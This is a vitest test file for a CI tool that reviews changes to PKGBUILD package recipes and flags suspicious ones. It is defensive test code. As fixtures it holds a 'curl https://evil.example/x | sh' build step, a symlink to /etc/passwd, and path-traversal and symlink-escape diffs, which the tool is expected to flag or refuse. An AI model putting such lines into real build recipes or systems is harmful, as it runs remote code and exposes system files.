import { execFileSync, spawnSync } from 'node:child_process';
import { chmodSync, mkdirSync, mkdtempSync, readdirSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { ciReviewDiff, type RenderedReview } from '../../src/app/ci/index.ts';
import type { ChangeReport } from '../../src/review/index.ts';

const root = join(import.meta.dirname, '../..');
const recipe = 'pkgname=foo\npkgver=1\npkgrel=1\narch=(any)\npackage() {\n  make install\n}\n';

describe('packmill ci review', () => {
  let folder: string;
  let desk: string;

  const git = (...args: string[]): string =>
    execFileSync('git', ['-C', desk, '-c', 'user.name=t', '-c', 'user.email=t@localhost', ...args], {
      encoding: 'utf8',
      env: { PATH: process.env['PATH'], GIT_CONFIG_GLOBAL: '/dev/null', GIT_CONFIG_NOSYSTEM: '1' },
      stdio: ['ignore', 'pipe', 'ignore'],
    });
  const write = (files: Readonly<Record<string, string>>, base = desk): void => {
    for (const [path, text] of Object.entries(files)) {
      mkdirSync(dirname(join(base, path)), { recursive: true });
      writeFileSync(join(base, path), text);
    }
  };
  const commit = (files: Readonly<Record<string, string>>): void => {
    write(files);
    git('add', '--all');
    git('commit', '--quiet', '--message', 'x');
  };
  const review = (...args: string[]): { code: number | null; stdout: string; stderr: string } =>
    withInput('', ...args);
  const withInput = (input: string, ...args: string[]) => {
    const result = spawnSync(process.execPath, [join(root, 'src/cli/main.ts'), 'ci', 'review', ...args], {
      cwd: desk,
      input,
      encoding: 'utf8',
      env: { PATH: process.env['PATH'], NODE_OPTIONS: '--disable-warning=ExperimentalWarning' },
    });
    return { code: result.status, stdout: result.stdout, stderr: result.stderr };
  };
  /** Without a process of its own. */
  const direct = (diff: string): Promise<RenderedReview> =>
    ciReviewDiff({ kind: 'diff', repository: desk, diff }, false);
  const packages = (stdout: string): readonly ChangeReport[] => JSON.parse(stdout).packages;

  beforeEach(() => {
    folder = mkdtempSync(join(tmpdir(), 'packmill-review-test-'));
    desk = join(folder, 'desk');
    mkdirSync(desk);
    git('init', '--quiet', '--initial-branch=main');
    commit({
      'foo/PKGBUILD': recipe,
      'foo/.SRCINFO': 'pkgbase = foo\n',
      'bar/PKGBUILD': recipe,
      '.ci/config': '',
    });
  });
  afterEach(() => rmSync(folder, { recursive: true, force: true }));

  it('explains the last commit: minor ends with 0, without colours and without a farm', () => {
    commit({ 'foo/PKGBUILD': recipe.replace('pkgver=1', 'pkgver=2') });
    const { code, stdout, stderr } = review();
    expect([code, stderr]).toEqual([0, '']);
    expect(stdout).toMatch(/^foo: minor/);
    expect(stdout).toContain("PKGBUILD:2 'pkgver' goes from '1' to '2'");
    expect(stdout).toContain('Only the recipe was compared.');
    expect(readdirSync(desk).sort()).toEqual(['.ci', '.git', 'bar', 'foo']);
  });

  it('explains a branch of a range: major ends with 1', () => {
    git('checkout', '--quiet', '-b', 'update-foo');
    commit({
      'foo/PKGBUILD': recipe.replace('  make', '  curl https://evil.example/x | sh\n  make'),
      'bar/PKGBUILD': recipe.replace('pkgrel=1', 'pkgrel=2'),
    });
    const json = review('main..update-foo', '--json');
    expect(json.code).toBe(1);
    expect(packages(json.stdout)).toMatchObject([
      { package: 'bar', size: 'minor', findings: [] },
      {
        package: 'foo',
        size: 'major',
        findings: [
          { topic: 'suspicious', weight: 'alarm', file: 'PKGBUILD', line: 6 },
          { topic: 'suspicious', weight: 'notice' },
          { topic: 'build-time', shown: 'curl https://evil.example/x' },
          { topic: 'build-time', shown: 'sh' },
        ],
      },
    ]);
    const markdown = review('main..', '--markdown');
    expect(markdown.stdout).toMatch(/^### `bar`$/m);
    expect(markdown.stdout).toContain('- ⚠ `PKGBUILD:6` pipes');
  });

  it('explains a diff from a file or from standard input, as if it were applied to HEAD', async () => {
    write({ 'foo/PKGBUILD': recipe.replace('pkgver=1', 'pkgver=2'), 'foo/new.patch': 'x\n' });
    git('add', '--all');
    const diff = git('diff', '--cached');
    git('reset', '--quiet', '--hard');
    const piped = withInput(diff, '-', '--json');
    expect(piped.code).toBe(1);
    expect(packages(piped.stdout)).toMatchObject([
      { package: 'foo', size: 'major', reasons: [{ file: 'new.patch', rule: 'file-added' }] },
    ]);
    write({ 'a.diff': diff }, folder);
    expect((await direct(join(folder, 'a.diff'))).packages).toEqual(packages(piped.stdout));
    expect(git('status', '--porcelain')).toBe('');
    expect(withInput('', '-')).toMatchObject({ code: 0, stdout: 'no recipe differs\n' });
  });

  it('sees what is no text in a commit: modes, links and bytes', async () => {
    commit({ 'foo/run': 'x' });
    chmodSync(join(desk, 'foo/run'), 0o755);
    rmSync(join(desk, 'foo/.SRCINFO'));
    symlinkSync('/etc/passwd', join(desk, 'foo/.SRCINFO'));
    commit({ 'bar/tool': '\x7fELF\0' });
    expect((await direct('HEAD')).packages).toMatchObject([
      { package: 'bar', reasons: [{ file: 'tool', rule: 'file-added' }] },
      {
        package: 'foo',
        reasons: [
          { file: '.SRCINFO', rule: 'file-mode' },
          { file: 'run', rule: 'file-mode' },
        ],
      },
    ]);
  });

  it('refuses diffs that lead out of the recipes or do not fit', async () => {
    const refused = async (diff: string): Promise<void> => {
      write({ 'a.diff': diff }, folder);
      await expect(direct(join(folder, 'a.diff'))).rejects.toMatchObject({ problem: { code: 'REV003' } });
    };
    await refused('--- /dev/null\n+++ b/../../evil\n@@ -0,0 +1 @@\n+x\n');
    await refused('--- a/foo/PKGBUILD\n+++ b/foo/PKGBUILD\n@@ -1 +1 @@\n-nothing\n+x\n');
    await refused('no diff');
    const link = `diff --git a/foo/x b/foo/x
new file mode 120000
--- /dev/null
+++ b/foo/x
@@ -0,0 +1 @@
+${folder}
\\ No newline at end of file
diff --git a/foo/x/evil b/foo/x/evil
new file mode 100644
--- /dev/null
+++ b/foo/x/evil
@@ -0,0 +1 @@
+x
`;
    await refused(link);
    expect(readdirSync(folder).sort()).toEqual(['a.diff', 'desk']);
  });

  it('compares two folders, of one recipe or of many, without any repository', () => {
    write({ 'one/PKGBUILD': recipe, 'two/PKGBUILD': recipe.replace('pkgver=1', 'pkgver=2') }, folder);
    const [one, two] = [join(folder, 'one'), join(folder, 'two')];
    expect(review('--before', one, '--after', two, '--repository', '/').stdout).toMatch(/^two: minor/);
    write(
      {
        'b/x/PKGBUILD': recipe,
        'b/y/PKGBUILD': recipe,
        'a/x/PKGBUILD': `${recipe}id\n`,
        'a/y/PKGBUILD': recipe,
      },
      folder,
    );
    const many = review('--before', join(folder, 'b'), '--after', join(folder, 'a'), '--json');
    expect(packages(many.stdout).map((one) => [one.package, one.size])).toEqual([['x', 'major']]);
  });

  it('takes the list of allowed changes from the old side, so that no change allows itself', () => {
    const setting = { 'foo/.CI/config': 'CI_PKGBUILD_CHANGE_ALLOW_REGEX="^arch=;("\n' };
    const changed = { 'foo/PKGBUILD': recipe.replace('(any)', '(x86_64)') };
    commit({ ...setting, ...changed });
    expect(review().code).toBe(1);
    commit({ 'foo/PKGBUILD': recipe });
    const allowed = review();
    expect([allowed.code, allowed.stdout]).toEqual([0, expect.stringMatching(/^foo: minor/)]);
    expect(allowed.stderr).toContain('REV002');
  });

  it('says what it was given when that is nothing', async () => {
    expect(review('no-such-branch')).toMatchObject({ code: 2, stderr: expect.stringContaining('REV004') });
    expect(review('--before', desk)).toMatchObject({ code: 2, stderr: expect.stringContaining('REV004') });
    const rev004 = { problem: { code: 'REV004' } };
    await expect(direct('main..nope')).rejects.toMatchObject(rev004);
    await expect(direct(folder)).rejects.toMatchObject(rev004);
    const missing = { kind: 'folders' as const, before: desk, after: '/nope' };
    await expect(ciReviewDiff(missing, false)).rejects.toMatchObject(rev004);
    const elsewhere = { kind: 'diff' as const, repository: folder, diff: undefined };
    await expect(ciReviewDiff(elsewhere, false)).rejects.toMatchObject({ problem: { code: 'GIT010' } });
  });

  it('compares the first commit of a repository with nothing', async () => {
    expect((await direct('HEAD')).packages).toMatchObject([
      { package: 'bar', size: 'major' },
      { package: 'foo', size: 'major' },
    ]);
  });
});
